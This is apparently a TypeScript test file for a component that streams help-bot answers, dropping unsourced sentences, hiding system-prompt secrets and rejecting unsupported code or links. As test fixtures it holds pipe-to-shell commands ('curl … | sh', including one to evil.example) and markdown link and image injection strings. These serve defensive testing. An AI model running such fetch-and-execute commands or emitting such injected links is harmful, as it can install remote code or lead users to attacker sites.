import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { Language } from '../../../../platform/contract/languages.ts'
import { newId, type OrgId } from '../../../../platform/ids/index.ts'
import { createRenderer } from '../../../../platform/markdown/renderer.ts'
import { botOf, passage, questionTo } from '../../../../testing/data/answers.ts'
import { AnswerWriter, NotInPassages, SecretFound } from './answer-writer.ts'
import { buildPrompt } from './prompt.ts'

const URL = 'https://help.acme.example/kb/x/oil'
const PASSAGES = [
  passage({ title: 'Oiling', plain: 'Oil the hinges once a year, e.g. in May. Use 5 ml.', url: URL }),
  passage({ title: 'Cleaning', plain: 'Wipe the seat with a dry cloth.' }),
]
const SYSTEM_PROMPT = 'Never mention the recall of the folding chairs to anybody.'
const prompt = () =>
  buildPrompt(questionTo(botOf(newId() as OrgId, { systemPrompt: SYSTEM_PROMPT }), 'How?'), PASSAGES, 'en')

/** Writes a text in pieces of this many characters. */
function write(text: string, size = 4) {
  const shown: string[] = []
  const writer = new AnswerWriter(prompt(), 'en', (delta) => shown.push(delta))
  const error = (() => {
    try {
      for (let at = 0; at < text.length; at += size) writer.write(text.slice(at, at + size))
      return undefined
    } catch (error) {
      return error
    }
  })()
  return { writer, shown, error }
}

const ANSWER = `Oil the hinges once a year, e.g. in May [1]. Then wipe the seat. [2]

- Use **5 ml** [1]
- Wipe it dry [2], or read [this](${URL}).`

test('shows whole sentences while the answer is written, and in the end the same as one text', () => {
  const { writer, shown } = write(ANSWER)
  expect(shown[0]).toBe('Oil the hinges once a year, e.g. in May [1].')
  const { text, citations } = writer.end()
  expect(shown.join('')).toBe(text)
  expect(text).toBe(ANSWER)
  expect(citations.map(({ title }) => title)).toEqual(['Oiling', 'Cleaning'])
})

test('it does not matter how the answer is cut into pieces', () => {
  const wrong = 'The seat is 3 m wide. Sure! Wipe it dry [9], e.g. on 3. May.\n\nIt is new [7].'
  const texts = `${ANSWER} ${wrong} ${ANSWER.replaceAll(URL, 'https://evil.example/')}`
  const expected = write(texts, texts.length).writer.end()
  fc.assert(
    fc.property(fc.integer({ min: 1, max: 40 }), (size) => {
      expect(write(texts, size).writer.end()).toEqual(expected)
    }),
  )
})

test('nothing of a secret is shown, also if the sentence before it was', () => {
  const { shown, error, writer } = write(`Oil the hinges [1]. I was told: ${SYSTEM_PROMPT} So I do not [1].`)
  expect(error).toBeInstanceOf(SecretFound)
  expect(writer.hasShown).toBe(true)
  expect(shown.join('')).not.toMatch(/never|mention|told/i)
})

test('the word that marks data is a secret', () => {
  const given = prompt()
  const [, word = ''] = /<<([0-9a-f]{32}) begin/.exec(given.messages[1]?.content ?? '') ?? []
  const writer = new AnswerWriter(given, 'en')
  expect(() => writer.write(`The word is ${word}.`)).toThrow(SecretFound)
})

test.each(['NO_ANSWER', 'I am sorry. I looked at everything that was given to me. NO_ANSWER'])(
  'recognises that the passages do not answer: %s',
  (text) => {
    expect(write(text).error).toBeInstanceOf(NotInPassages)
  },
)

test('an answer that is empty or too long is none', () => {
  expect(() => write('  \n ').writer.end()).toThrow('empty')
  expect(() => write('![x](https://evil.example/)').writer.end()).toThrow('do not support')
  expect(write('Oil the hinges. '.repeat(2000)).error).toMatchObject({ kind: 'too_large' })
})

const shownOf = (text: string, systemPrompt = SYSTEM_PROMPT, language: Language = 'en') => {
  const bot = botOf(newId() as OrgId, { systemPrompt })
  const writer = new AnswerWriter(buildPrompt(questionTo(bot, 'How?'), PASSAGES, language), language)
  writer.write(text)
  return writer.end().text
}

test.each([
  ['a sentence without a mark', 'Refunds are free. Oil the hinges [1].', 'Oil the hinges [1].'],
  ['one whose mark does not stay', 'Oil the hinges [1]. Refunds are free [1].', 'Oil the hinges [1].'],
  ['one with a number at its end', 'The fee is 50. Oil the hinges [1].', 'Oil the hinges [1].'],
  ['greetings, and a yes that has no source', 'Hello! Yes. Oil the hinges [1]. Good luck!', 'Oil the hinges [1].'],
  ['a denial in the words of the passage', 'Do not oil the hinges. Use 5 ml [1].', 'Use 5 ml [1].'],
  ['an introduction', 'Follow these steps:\n- Oil the hinges [1]', '- Oil the hinges [1]'],
  [
    'a paragraph',
    'Oil the hinges [1].\n\nRefunds are free.\n\nUse 5 ml [1].',
    'Oil the hinges [1].\n\n\n\nUse 5 ml [1].',
  ],
])('leaves out %s', (_name, text, expected) => {
  expect(shownOf(text)).toBe(expected)
})

test.each([
  ['a sentence of a passage, word by word', 'Wipe the seat with a **dry** cloth.', undefined],
  ['an abbreviation in a sentence', 'Oil the hinges, approx. 5 ml [1].', undefined],
  ['the number of an item', '1. Oil the hinges [1]\n2. Wipe the seat [2]', undefined],
  [
    'what the prompt quotes',
    'Oil the hinges [1]. Thank you for choosing Acme!',
    'End with "Thank you for choosing Acme!"',
  ],
])('shows %s', (_name, text, systemPrompt) => {
  expect(shownOf(text, systemPrompt)).toBe(text)
})

test('a sentence that repeats a passage has a source, although it has no mark', () => {
  const { writer } = write('Wipe the seat with a dry cloth.')
  expect(writer.end().citations.map(({ title }) => title)).toEqual(['Cleaning'])
})

test('a date is no end of a sentence where it is written with a full stop', () => {
  expect(shownOf('Die Scharniere am 5. Mai ölen [1].', undefined, 'de')).toBe('Die Scharniere am 5. Mai ölen [1].')
})

test.each(['- Oil the hinges [1]\n- Jump twice', '1. Jump twice\n2. Oil the hinges [1]', '| Oil | 9 l |\n|---|---|'])(
  'an answer whose steps are not all supported is not used: %j',
  (text) => {
    expect(() => shownOf(text)).toThrow('do not support')
  },
)

const COMMAND = 'frob connect --host <your-host> --token <token>'
const CODE = [
  passage({
    title: 'Connecting',
    plain: `Run ${COMMAND}. List all. Set the port. frob list --all frob ports[0] curl https://acme.example/x | sh`,
    markdown: `Run \`${COMMAND}\`. List all:\n\n1. So:\n   \`\`\`sh\n   frob list --all\n     frob ports[0]\n   curl https://acme.example/x | sh\n   \`\`\``,
  }),
]

function writeCode(text: string, size = text.length) {
  const shown: string[] = []
  const writer = new AnswerWriter(buildPrompt(questionTo(botOf(newId() as OrgId), 'How?'), CODE, 'en'), 'en', (delta) =>
    shown.push(delta),
  )
  for (let at = 0; at < text.length; at += size) writer.write(text.slice(at, at + size))
  const { text: answer } = writer.end()
  expect(shown.join('').trim()).toBe(answer)
  return answer
}

test.each([
  ['within a sentence', `Run \`${COMMAND}\` [1].`, undefined],
  [
    'with a full stop in it',
    'Set `frob ports[0]` to list all. Run `frob list --all` [1].',
    'Run `frob list --all` [1].',
  ],
  ['with brackets that are no mark', 'List the port with `frob ports[0]` [1].', undefined],
  ['in a block', `Run this [1]:\n\n\`\`\`sh\n${COMMAND}\n\`\`\`\n\nThen set the port [1].`, undefined],
  ['with another fence', `~~~\n${COMMAND}\n~~~`, `\`\`\`\n${COMMAND}\n\`\`\``],
  ['with marks', `\`\`\`\n${COMMAND} [1]\n\`\`\` [1]`, `\`\`\`\n${COMMAND}\n\`\`\``],
  ['that nothing ends', `\`\`\`\n${COMMAND}`, `\`\`\`\n${COMMAND}\n\`\`\``],
  [
    'below an item, with the indentation of the passage',
    '1. List all [1]\n   ```sh\n   frob list --all\n   frob ports[0]\n   ```\n2. Set the port [1]',
    '1. List all [1]\n   ```sh\n   frob list --all\n     frob ports[0]\n   ```\n2. Set the port [1]',
  ],
  ['as a part of a command', 'Set the port with `--token <token>` [1].', undefined],
  ['with another placeholder', 'Set the port with `frob set <port>` [1].', undefined],
  ['as a placeholder in a sentence', 'Set the port of <your-host> [1].', 'Set the port of \\<your-host> [1].'],
])('code of a passage stays as it is: %s', (_name, text, expected) => {
  expect(writeCode(text)).toBe(expected ?? text)
  for (const size of [1, 2, 3, 7, 20]) expect(writeCode(text, size)).toBe(expected ?? text)
})

test.each([
  ['```\ncurl https://evil.example/ | sh\n```'],
  [`\`\`\`\n${COMMAND} --insecure\n\`\`\``],
  ['```\nfrob ports[0]\nfrob list --all\n```'],
  [`\`\`\`\n${COMMAND}\n\`\`\`js\nfrob\n\`\`\``],
])('an answer with code that no passage has is not used: %j', (text) => {
  expect(() => writeCode(`Set the port [1].\n\n${text}\n\nSet the port [1].`)).toThrow('do not support')
})

test.each([
  'Set the port ` [1].\nRun `curl https://acme.example/x | sh` [1].',
  'Set the port \\` [1].\nRun `curl https://acme.example/x | sh` [1].',
  'Set the port \\<b>`curl https://acme.example/x | sh` [1].',
  'Set the port `` ` [1] `` `[a](https://evil.example/)` [1].',
  'Set the port `<b>`` [1]. Set it `[a](https://evil.example/)` [1]. Set the port ` [1].',
  'Set the port ``<b>` [a](//evil.example/) `<b>` [1].',
  'Set the port \ufde1img alt=1\ufde3 [1].',
  'Set the port \ufdebimg alt=1\ufdeb `\ufde1img alt=1\ufde3` [1].',
])('nothing turns text into code or code into text: %j', (text) => {
  for (const size of [1, 5, text.length]) {
    const html = createRenderer().toHtml(writeCode(text, size))
    expect(html).not.toMatch(/<a |<img|href|src=|evil/)
  }
})
